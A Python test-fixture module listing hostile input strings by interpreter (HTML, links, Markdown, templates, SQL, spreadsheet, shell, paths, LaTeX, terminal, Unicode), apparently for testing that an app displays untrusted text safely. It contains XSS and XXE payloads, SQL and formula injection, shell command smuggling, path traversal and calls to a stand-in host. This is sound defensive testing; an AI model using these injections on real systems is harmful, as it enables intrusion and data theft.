"""Hostile texts: markup, code, commands and paths that a program might interpret instead of showing them.

Code in them that runs in a browser calls ``hit`` (``COUNT_HITS``) or requests something at ``OUTSIDE``.
"""

OUTSIDE = "outside.example"

# To be run in the page first; code in the texts that runs increases the count.
COUNT_HITS = "window.hits = 0; window.hit = () => { window.top.hits += 1; }"

# Kind of attack -> a label with it, one of each kind, for tests that examine each closely.
HOSTILE = {
    "image": "<img src=x onerror=hit()>",
    "script": "</script><script>hit()</script>",
    "style": "</style><svg onload=hit()>",
    "link": '<a href="javascript:hit()">javascript:hit()</a> href',
    "attribute": "\" onmouseover=hit() x='",
    "section": "]]> <![CDATA[ <!-- --> &amp; &lt; &#60;",
    "template": "{{ 7 * 7 }} {% raw %} ${7}",
    "markdown": "**b** `c` [d](javascript:hit()) :red[x] $a$ ~~e~~ # f",
    "right to left": "\u202eabc\u202c \u2067def\u2069",
    "emoji": "😀 👩‍👩‍👧 🏳️‍🌈 Байкал العربية 中文",
    "control": "a\x00b\x1b[31mc\x7fd\x85e\ufffe",
    "surrogate": "x\ud800y",
    "LaTeX": r"\input{/etc/passwd} \write18 #1 $x^2$ 100% a_b & ~ {",
    "formula": '=HYPERLINK("http://x.example";"y")',
    "long": "word " * 2000,
}

# Words that a language of expressions, as Vega's is, could take for more than a text.
EXPRESSIONS = (
    *("if", "constructor", "toString", "hasOwnProperty", "valueOf", "__proto__", "__defineGetter__"),
    *("datum", "datum.value", "signal", "this", "null", "now()", "${x}"),
    *('"', "'", "\\", "\\u0022", "a.b[0]", 'it\'s "x"', "a\u2028b\u2028c", "a\nb", "<b>&amp;"),
)

# Names with what no XML may hold, or no terminal should get.
FORBIDDEN = ("anna\x01", "x\uffff", "n\x00", "e\x1b[31m", "s\ud800", "c\x85c", "d\x7f")

# Interpreter that could take it for more than a text -> such texts.
PAYLOADS: dict[str, tuple[str, ...]] = {
    "HTML": (
        HOSTILE["image"],
        HOSTILE["script"],
        HOSTILE["style"],
        HOSTILE["attribute"],
        HOSTILE["section"],
        "<svg><animate onbegin=hit() attributeName=x></svg>",
        "<details open ontoggle=hit()>",
        "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
        f"<iframe src=//{OUTSIDE}></iframe>",
        f"<object data=//{OUTSIDE}></object><embed src=//{OUTSIDE}>",
        f"<link rel=stylesheet href=//{OUTSIDE}/a.css>",
        f"<meta http-equiv=refresh content='0;url=http://{OUTSIDE}'>",
        f"<base href=http://{OUTSIDE}/>",
        f"<form action=http://{OUTSIDE}><input autofocus onfocus=hit()></form>",
        f"<style>@import '//{OUTSIDE}'; * {{ display: none }}</style>",
        f'<div style="background: url(http://{OUTSIDE}/x)">',
        "<math><mi xlink:href=javascript:hit()>x</mi></math>",
        "<template><img src=x onerror=hit()></template>",
        "<textarea><img title='</textarea><img src=x onerror=hit()>'>",
        "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
        "<scr<script>ipt>hit()</scr</script>ipt>",
        "<ImG sRc=x OnErRoR=hit()//",
        "&lt;img src=x onerror=hit()&gt;",
        "&#x3c;script&#x3e;hit()&#x3c;/script&#x3e;",
        "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
        "+ADw-script+AD4-hit()+ADw-/script+AD4-",
        "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    ),
    "link": (
        HOSTILE["link"],
        "javascript:hit()",
        "JaVaScRiPt:hit()",
        "java\tscript:hit()",
        "data:text/html,<script>hit()</script>",
        "vbscript:hit()",
        f"http://{OUTSIDE}/?q=1",
        f"https://user:pass@{OUTSIDE}",
        f"//{OUTSIDE}/x",
        f"www.{OUTSIDE}",
        f"anna@{OUTSIDE}",
        "file:///etc/passwd",
    ),
    "Markdown": (
        HOSTILE["markdown"],
        f"![x](http://{OUTSIDE}/x.png)",
        f"[x](http://{OUTSIDE})",
        f"<http://{OUTSIDE}>",
        f"[x]: http://{OUTSIDE}",
        "[x](javascript:hit())",
        "| a | b |\n| - | - |\n| c | d |",
        "```\ncode\n```",
        "# not a heading",
        "- not an item",
        "1. not a number",
        "> not a quotation",
        "---",
        ":material/delete: :streamlit: :tada:",
        ":red[x] :blue-background[y] :small[z]",
        "$\\href{javascript:hit()}{x}$",
        "$$\\require{html}\\class{x}{y}$$",
        "~~a~~ ==b== ^c^ _d_ *e*",
        "[" * 40 + "]" * 40,
        "\\",
    ),
    "expression": (
        *EXPRESSIONS,
        "datum.constructor.constructor('hit()')()",
        "');hit();//",
    ),
    "template": (
        HOSTILE["template"],
        "{{constructor.constructor('hit()')()}}",
        "#{7*7} <%= 7 %> @(7) *{7}",
        "{0} {name} %s %d %(x)s %n",
        "{self.__class__.__mro__}",
        "${jndi:ldap://outside.example/x}",
    ),
    "database": (
        "'; DROP TABLE judgements; --",
        "' OR '1'='1",
        '" OR ""="',
        "1; ATTACH DATABASE 'x' AS y",
        "%' ESCAPE '_",
        "Robert'); --",
    ),
    "spreadsheet": (
        HOSTILE["formula"],
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "a;=1+1",
        "=cmd|' /C calc'!A0",
        'x",=1+1,"',
        "＝1+1",
    ),
    "shell": (
        "$(touch owned) `touch owned`",
        "; touch owned #",
        "| touch owned",
        "--help",
        "-",
        "~",
        "!!",
    ),
    "path": (
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "C:\\x:y",
        "CON",
        "a/b.json",
        "%2e%2e%2f",
        ".",
    ),
    "LaTeX": (
        HOSTILE["LaTeX"],
        "\\immediate\\write18{touch owned}",
        "\\end{document}",
        "% & # _ { } ~ ^",
    ),
    "terminal": (
        HOSTILE["control"],
        "\x1b]0;owned\x07",
        "\x1b[2J\x1b[H",
        "\x9b31m",
        "\x1b]8;;http://outside.example\x1b\\x\x1b]8;;\x1b\\",
        "\x08\x08\x08",
        "a\rb",
        *FORBIDDEN,
    ),
    "writing": (
        HOSTILE["right to left"],
        HOSTILE["emoji"],
        "\u202egnp.exe",
        "\u2066\u2067\u2068",
        "\u200b\u200d\ufeff",
        "Z̷̡̢͎͇̰͔̓̈́a̵l̴g̸o" + "\u0301" * 20,
        "\u3164",
        "\u00a0",
        "İstanbul ǆ ﬀ ß",
        "𝕏 \U0010ffff \ue000",
        HOSTILE["surrogate"],
        HOSTILE["long"],
    ),
    "value": (
        "NaN",
        "Infinity",
        "-0",
        "1e999",
        "9" * 400,
        "true",
        "None",
        "undefined",
        "__init__",
        "2026-02-30",
    ),
}

ALL = tuple(dict.fromkeys(text for texts in PAYLOADS.values() for text in texts))  # each of them once

ENCODABLE = tuple(text for text in ALL if "\ud800" not in text)  # those that UTF-8 can hold
